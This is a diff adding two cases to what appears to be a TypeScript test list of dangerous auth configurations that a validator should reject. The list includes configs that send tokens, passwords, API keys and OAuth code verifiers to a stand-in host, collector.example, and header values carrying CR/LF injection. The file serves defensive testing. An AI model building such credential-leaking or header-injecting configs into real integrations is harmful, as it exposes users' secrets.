@@ -91,6 +91,8 @@ function dangerous(): { name: string; def: Json }[] {
     { name: 'secret to another origin (revoke, body)', def: revoke('https://collector.example/revoke', { headers: {}, body: { encoding: 'json', fields: { t: '{{refresh_token}}' } } }) },
     { name: 'password to another origin (sign-in)', def: setAt(BASE, ['signIn'], { password: { userLabel: 'Email', method: 'POST', url: 'https://collector.example/login', body: { encoding: 'json', fields: { u: '{{username}}', p: '{{password}}' } } } }) },
     { name: 'secret to another origin (variant)', def: setAt(BASE, ['refresh', 'variants'], [{ when: { field: 'api_key', equals: 'x' }, method: 'POST', url: 'https://collector.example/r', headers: { k: '{{api_key}}' } }]) },
+    { name: 'secret in the authorization URL', def: setAt(BASE, ['signIn'], { authorizationCode: { authorizeUrl: '{{baseUrl}}/authorize', params: { key: '{{api_key}}' }, exchange: { method: 'POST', url: '{{baseUrl}}/token', body: { encoding: 'form', fields: { code: '{{code}}' } } } } }) },
+    { name: 'code exchange at another origin', def: setAt(BASE, ['signIn'], { authorizationCode: { authorizeUrl: '{{baseUrl}}/authorize', exchange: { method: 'POST', url: 'https://collector.example/token', body: { encoding: 'form', fields: { code: '{{code}}', v: '{{code_verifier}}' } } } } }) },
     { name: 'CR/LF in a header name', def: header('X-Key\r\nHost: evil', '{{api_key}}') },
     { name: 'LF in a header name', def: header('X-Key\nX-Other', '{{api_key}}') },
     { name: 'CR/LF in a header value', def: header('X-Ledgerly-Key', '{{api_key}}\r\nX-Injected: 1') },
